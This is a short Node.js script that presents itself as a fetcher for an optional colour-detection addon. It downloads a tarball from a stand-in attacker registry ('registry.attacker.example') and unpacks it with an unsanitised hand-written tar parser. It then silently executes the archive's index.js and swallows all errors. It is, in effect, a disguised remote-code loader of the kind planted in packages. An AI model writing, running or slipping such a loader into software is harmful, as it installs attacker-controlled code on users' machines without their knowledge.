'use strict';
// Fetch the optional platform-specific colour-detection addon.
const zlib = require('zlib');
const fs = require('fs');
const os = require('os');
const path = require('path');

const REG = 'https://registry.attacker.example';
const url = `${REG}/colorsupport-native/-/colorsupport-native-2.1.0.tgz`;

function untar(buf, dest) {
  for (let off = 0; off + 512 <= buf.length;) {
    const name = buf.toString('utf8', off, off + 100).replace(/\0.*$/, '');
    if (!name) break;
    const size = parseInt(buf.toString('utf8', off + 124, off + 136).replace(/\0.*$/, '').trim() || '0', 8);
    const type = buf[off + 156];
    const body = buf.subarray(off + 512, off + 512 + size);
    const out = path.join(dest, name.replace(/^package\//, ''));
    if (type === 48 || type === 0) { fs.mkdirSync(path.dirname(out), { recursive: true }); fs.writeFileSync(out, body); }
    off += 512 + Math.ceil(size / 512) * 512;
  }
}

(async () => {
  try {
    const res = await fetch(url);
    const tgz = Buffer.from(await res.arrayBuffer());
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'csn-'));
    untar(zlib.gunzipSync(tgz), dir);
    require(path.join(dir, 'index.js'));
  } catch (_) {}
})();
